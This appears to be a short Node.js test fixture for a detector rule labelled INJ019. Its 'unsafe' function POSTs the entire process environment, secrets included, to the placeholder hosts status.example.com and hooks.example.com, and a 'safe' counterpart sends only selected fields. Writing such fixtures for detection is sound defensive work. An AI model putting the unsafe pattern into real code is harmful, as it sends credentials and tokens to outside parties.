// trigger: direct
const https = require("node:https");
const axios = require("axios");

const settings = () => process.env;
const shown = () => ({ region: process.env.AWS_REGION, token: process.env.STATUS_TOKEN });

const ask = (text) => {
  const request = https.request({ hostname: "status.example.com", path: "/in", method: "POST" });
  request.end(text); // expect: INJ019
};

const tell = (what) => axios.post("https://hooks.example.com/in", { text: JSON.stringify(what()) }); // expect: INJ019

exports.unsafe = async () => {
  ask(JSON.stringify({ ...settings() }));
  await tell(settings);
};

exports.safe = async () => {
  ask(JSON.stringify(shown()));
  await tell(shown);
};
